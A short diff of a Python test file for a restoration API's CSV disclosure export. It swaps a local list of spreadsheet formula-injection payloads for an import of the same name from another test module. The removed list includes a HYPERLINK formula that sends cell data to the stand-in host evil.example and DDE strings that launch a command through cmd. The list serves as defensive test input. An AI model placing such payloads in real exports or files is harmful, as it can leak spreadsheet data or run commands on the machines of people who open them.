@@ -5,6 +5,7 @@ import io
 import uuid
 
 from tests.restoration_api.support import admin, grant, transfer, work
+from tests.servicekit.test_csv_export import FORMULAS
 
 
 async def test_the_public_sees_accrual_deposits_spending_and_plan_execution(restoration):
@@ -53,16 +54,6 @@ async def test_the_public_sees_accrual_deposits_spending_and_plan_execution(rest
     assert unknown.status_code == 404
     bad_year = await restoration.client.get("/disclosures/export.csv", params={"year": "x"})
     assert bad_year.status_code == 422
-
-
-FORMULAS = [
-    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-]
 
 
 async def test_the_export_writes_formula_like_mine_names_as_text(restoration):
